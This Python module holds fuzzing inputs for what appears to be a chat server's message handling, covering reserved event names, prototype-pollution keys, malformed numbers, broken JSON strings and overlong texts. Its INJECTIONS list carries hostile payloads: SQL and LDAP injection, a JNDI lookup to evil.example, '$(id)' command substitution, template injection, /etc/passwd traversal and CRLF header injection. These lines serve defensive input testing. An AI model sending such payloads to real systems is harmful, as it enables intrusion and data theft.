"""Values that are wrong for something: half of them are no JSON, the others no name, number or text of ours."""

from __future__ import annotations

import json

FORBIDDEN = ["connect", "disconnect", "*", "", "error", "message_updated", "user_joined", "json"]
STRANGE = [
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "__class__",
    "__init__",
    "then",
    "sid",
    "self",
]
STRANGE += ["chatroom", "connection", "user_id", "callback", "broadcast", "to"]

NUMBERS = [
    "-1",
    "-0",
    "-0.0",
    "1.5",
    "1e3",
    "1e400",
    "-1e400",
    "NaN",
    "Infinity",
    "-Infinity",
    "0x10",
    "01",
    "1_000",
    "+1",
    ".5",
    "1e",
    "٣",
]
NUMBERS += ["9" * 17, "9" * 101, "9007199254740992", "18446744073709551616"]
LITERALS = [
    "null",
    "true",
    "false",
    "[]",
    "{}",
    "undefined",
    "None",
    "''",
    '""',
    "[[]]",
    "{{}}",
    "/**/1",
]
BROKEN = [
    '"\\ud800"',
    '"\\udfff x"',
    '"\\u0000"',
    '"a\\u0000b"',
    '"\\x41"',
    '"\\"',
    '"',
    '"\n"',
    '"\t',
]
BLANK = [json.dumps(text) for text in (" \t\n ", "\u200b", "\u2060\ufeff", "\u3164", "\u2800" * 9)]
LONG = [json.dumps(text, ensure_ascii=False) for text in ("x" * 2001, "🐟" * 2001, " " * 9000)]
TEXTS = [*BROKEN, *BLANK, *LONG]

INJECTIONS = [
    "'; DROP TABLE message; --",
    "' OR 1=1 --",
    "*)(uid=*",
    "${jndi:ldap://evil.example/x}",
]
INJECTIONS += [
    "$(id)",
    "`id`",
    "%s%n%x",
    "{0.__class__}",
    "{{7*7}}",
    "../../etc/passwd",
    "..%2f..%2f",
]
INJECTIONS += [
    "%00",
    "\r\nSet-Cookie: chatroom=x",
    "den\nINFO forged line",
    "\x1b[2J\x1b]0;x\x07",
    "\u202egpj.exe",
]

PLACES = [
    "",
    "",
    "",
    "",
    "/",
    "/,",
    "/admin,",
    "/?x=1,",
    "//,",
    "/\u202e,",
    "0-",
    "1-",
    "99999999-",
]
IDS = ["", "0", "7", "007", "9" * 15, "9" * 16, "9" * 400, "-1", "1.5", "٣"]
